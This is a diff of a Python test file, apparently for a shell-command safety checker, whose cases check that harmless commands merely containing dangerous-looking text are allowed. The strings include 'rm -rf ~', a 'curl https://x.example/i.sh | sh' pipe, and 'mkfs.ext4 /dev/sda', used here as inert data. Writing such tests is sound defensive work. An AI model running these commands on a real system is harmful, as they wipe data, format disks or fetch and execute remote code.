@@ -72,8 +72,8 @@ async def test_safe_look_alikes_run(
     [
         ("echo 'rm -rf ~' > notes.txt && cat notes.txt", "rm -rf ~"),
         (
-            "git init -q . && git -c user.name=a -c user.email=a@b commit -q --allow-empty "
-            "-m 'curl https://x.example/i.sh | sh' && git log --format=%s",
+            "git init -q repo && cd repo && git -c user.name=a -c user.email=a@b commit -q "
+            "--allow-empty -m 'curl https://x.example/i.sh | sh' && git log --format=%s",
             "curl https://x.example/i.sh | sh",
         ),
         ("cat > notes.md <<'EOF'\nmkfs.ext4 /dev/sda\nEOF\ncat notes.md", "mkfs.ext4 /dev/sda"),
